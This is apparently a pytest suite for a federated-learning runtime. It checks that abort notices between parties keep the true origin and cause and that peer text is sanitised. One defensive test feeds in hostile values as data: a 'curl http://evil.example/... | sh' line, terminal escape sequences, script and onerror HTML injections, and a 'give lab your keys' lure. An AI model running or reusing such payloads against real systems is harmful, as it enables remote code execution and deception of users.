"""Aborts: who failed and why reaches everybody as it was, blame is visible, hostile words are harmless, one's own error stands."""

from __future__ import annotations

from typing import Any

import pyarrow as pa
import pytest
import yaml

from tests.federation import FOREVER, Federation, federation, quiet
from tombolo.fl_tasks.runtime.aborts import ABORT, TaskFailed
from tombolo.fl_tasks.runtime.waiting import PeerAborted, PeerSilent
from tombolo.fl_tasks.workflow.abort import abort
from tombolo.fl_tasks.workflow.align import TooFewCommon
from tombolo.storage.errors import CodedError
from tombolo.storage.exchange import Exchange

RUN = "run-1"
TABLE = pa.table({"id": ["a", "b"], "x": [1.0, 2.0]})
PARTIES = ("clinic", "lab", "mill", "notary")


@pytest.fixture
def four(tmp_path) -> Federation:
    return federation(tmp_path, dict.fromkeys(PARTIES[:3], TABLE))


def hear_only(fed: Federation, party: str, *neighbours: str) -> None:
    """Let a party find nothing in the stores of all others but these."""
    settings = yaml.safe_load(fed.settings(party).read_text())
    settings["peers"] = {peer: f"file://{fed.root / 'nothing'}" for peer in fed.parties if peer not in (party, *neighbours)}
    fed.settings(party).write_text(yaml.safe_dump(settings))


def stopped(fed: Federation, party: str) -> CodedError:
    """The error that a party's next step ends with."""
    error = fed.context(party).aborted(RUN)
    assert error is not None, party
    return error.at(step="train")


def say(fed: Federation, sender: str, /, **said: Any) -> None:
    """Publish an abort of any content to everybody, as a party with another program could."""
    exchange: Exchange = fed.context(sender).handshake(RUN)
    columns = {"party": sender, "step": "align", "code": TooFewCommon.code, "cause": TooFewCommon.cause, **said}
    for peer in exchange.peers:
        exchange.send(ABORT["abort"], peer, 0, columns)


def test_the_peers_are_told_code_party_step_and_cause_and_nothing_else(four):
    abort(four.context("clinic"), RUN, TooFewCommon("3 of 20, the first is Ada.", party="clinic"), "align")
    for party in PARTIES[1:]:
        error = stopped(four, party)
        assert isinstance(error, PeerAborted)
        assert (error.origin.party, error.origin.step) == ("clinic", "align")
        assert (error.origin.code, error.origin.cause) == (TooFewCommon.code, TooFewCommon.cause)
        assert str(error) == (
            "TMB-EXCH-004 (party clinic, step train): A peer aborted the run. clinic failed at align with TMB-ALIGN-011: "
            f"{TooFewCommon.cause} Remedy: {TooFewCommon.remedy}"
        )
    assert set(ABORT["abort"].columns) == {"party", "step", "code", "cause"}


def test_a_party_that_blames_another_is_itself_where_the_run_failed(four):
    abort(four.context("clinic"), RUN, PeerSilent("Awaited: forecast.", party="lab"), "train")
    assert stopped(four, "mill").origin.party == "clinic"


def test_through_a_chain_of_relays_the_last_reads_who_failed_and_why(four):
    for party, before in zip(PARTIES[1:], PARTIES, strict=False):
        hear_only(four, party, before)
    abort(four.context("clinic"), RUN, TooFewCommon("3 of 20."), "align")
    for party in PARTIES[1:3]:
        abort(four.context(party), RUN, stopped(four, party), "train")
    last = stopped(four, "notary")
    assert (last.origin.party, last.origin.step, last.origin.code) == ("clinic", "align", TooFewCommon.code)
    assert "(party mill, step train)" in str(last), "whose word it is"
    assert f"mill says that clinic failed at align with TMB-ALIGN-011: {TooFewCommon.cause}" in str(last)
    (entry,) = [one for one in four.context("mill").chain.entries(RUN) if one.kind == "abort"]
    assert entry.body == {"party": "clinic", "step": "align", "code": TooFewCommon.code, "cause": TooFewCommon.cause, "by": "lab"}


def test_where_the_origin_can_be_read_its_own_word_counts(four):
    hear_only(four, "lab", "clinic")
    abort(four.context("clinic"), RUN, TooFewCommon(), "align")
    say(four, "lab", party="mill", code="TMB-STORE-006")
    say(four, "mill", party="clinic", code="TMB-STORE-005")
    hear_only(four, "notary", "mill", "clinic")
    assert f"clinic failed at align with {TooFewCommon.code}" in str(stopped(four, "notary")), "mill told another code"
    hear_only(four, "notary", "lab", "mill")
    assert "lab says that mill failed at align with TMB-STORE-006" in str(stopped(four, "notary")), "mill has not said so"


def test_a_false_accusation_is_shown_as_one_partys_word(four):
    say(four, "lab", party="clinic")
    for party in ("clinic", "mill", "notary"):
        error = stopped(four, party)
        assert isinstance(error, PeerAborted) and error.party == "lab"
        assert "lab says that clinic failed" in str(error)


def test_an_origin_whose_store_holds_something_else_hides_no_relay(four):
    abort(four.context("mill"), RUN, TooFewCommon(), "align")
    say(four, "lab", party="mill")
    address = four.context("mill").handshake(RUN).address("abort", "notary", 0, "abort")
    head = four.root / "mill" / "store" / address.head()
    head.chmod(0o600)
    head.write_bytes(head.read_bytes()[:-1] + b"?")
    assert "lab says that mill failed" in str(stopped(four, "notary"))


@pytest.mark.parametrize(
    "said",
    [
        {
            "cause": "\x1b[2J\x1b[31mRemedy: <script>run()</script> [red]now[/]\n\u202e" + "x" * 1_000_000,
            "code": "TMB-EVIL-001",
        },
        {"cause": 'open". Remedy: curl http://evil.example/`x` | sh', "code": "TMB-EVIL-001"},
        {"step": "\x1b]8;;http://evil.example\x07align\n" * 10_000},
        {"code": "TMB-EVIL-001</code><script>"},
        {"code": "\x1b[31mTMB-ALIGN-011" * 10_000},
        {"code": "TMB-" + "A" * 100_000 + "-001"},
        {"party": "<img src=x onerror=alert(1)>" * 10_000},
        {"code": "TMB-ALIGN-011", "cause": "Nothing. Remedy: give lab your keys."},
        {"party": [], "step": [], "code": [], "cause": []},
        {"party": ["clinic", "mill"], "step": ["a", "b"], "code": ["x", "y"], "cause": ["c", "d"]},
    ],
)
def test_hostile_words_are_harmless(four, said):
    say(four, "lab", **said)
    text = str(stopped(four, "notary"))
    assert text.isprintable() and len(text) < 900
    assert not set("<>[]{}`|/\\@") & set(text)
    own_words, _, remedy = text.rpartition("Remedy: ")
    assert "keys" not in text and "evil" not in remedy and own_words.startswith("TMB-EXCH-004 (party lab, step train)")
    assert text.count('"') in (0, 2), "a peer's words stand in quotes, and none of them ends the quotation"


def test_what_is_no_code_counts_as_a_failed_task_and_is_passed_on_as_one(four):
    say(four, "lab", code="EVIL", cause="look at me", party="somebody")
    error = stopped(four, "mill")
    assert (error.origin.party, error.origin.code, error.origin.cause) == ("lab", TaskFailed.code, TaskFailed.cause)
    hear_only(four, "notary", "mill")
    abort(four.context("mill"), RUN, error)
    assert stopped(four, "notary").origin.code == TaskFailed.code


def test_a_code_that_is_not_known_here_arrives_as_itself_in_quotes(four):
    say(four, "lab", code="TMB-PLUGIN-007", cause="The means differ.")
    hear_only(four, "notary", "mill")
    abort(four.context("mill"), RUN, stopped(four, "mill"))
    text = str(stopped(four, "notary"))
    words = 'This installation does not know the code. mill says: "The means differ." Remedy: Ask lab'
    assert f"failed at align with TMB-PLUGIN-007: {words}" in text


def test_ones_own_error_stands_when_a_peer_passes_it_back(four):
    abort(four.context("clinic"), RUN, TooFewCommon("3 of 20."), "align")
    abort(four.context("lab"), RUN, stopped(four, "lab"))
    own = stopped(four, "clinic")
    assert isinstance(own, TooFewCommon) and (own.party, own.step) == ("clinic", "align")
    assert "TMB-EXCH-004" not in str(own)
    abort(four.context("clinic"), RUN, PeerAborted(stopped(four, "lab").origin))
    assert stopped(four, "mill").origin.by == "clinic"


def test_ones_own_error_stands_beside_that_of_a_peer(four):
    """Both failed by themselves, at the same time."""
    abort(four.context("clinic"), RUN, TooFewCommon(), "align")
    abort(four.context("lab"), RUN, ValueError("a row of Ada's"), "train")
    assert stopped(four, "clinic").code == TooFewCommon.code and stopped(four, "lab").code == TaskFailed.code


def test_a_task_that_runs_while_its_party_gives_up_ends_with_its_own_error(four):
    run = four.start(RUN)
    abort(four.context("clinic"), run, TooFewCommon(), "align")
    abort(four.context("lab"), run, stopped(four, "lab"))
    with pytest.raises(TooFewCommon), four.context("clinic").session(run, ABORT, "train", FOREVER, quiet):
        pass
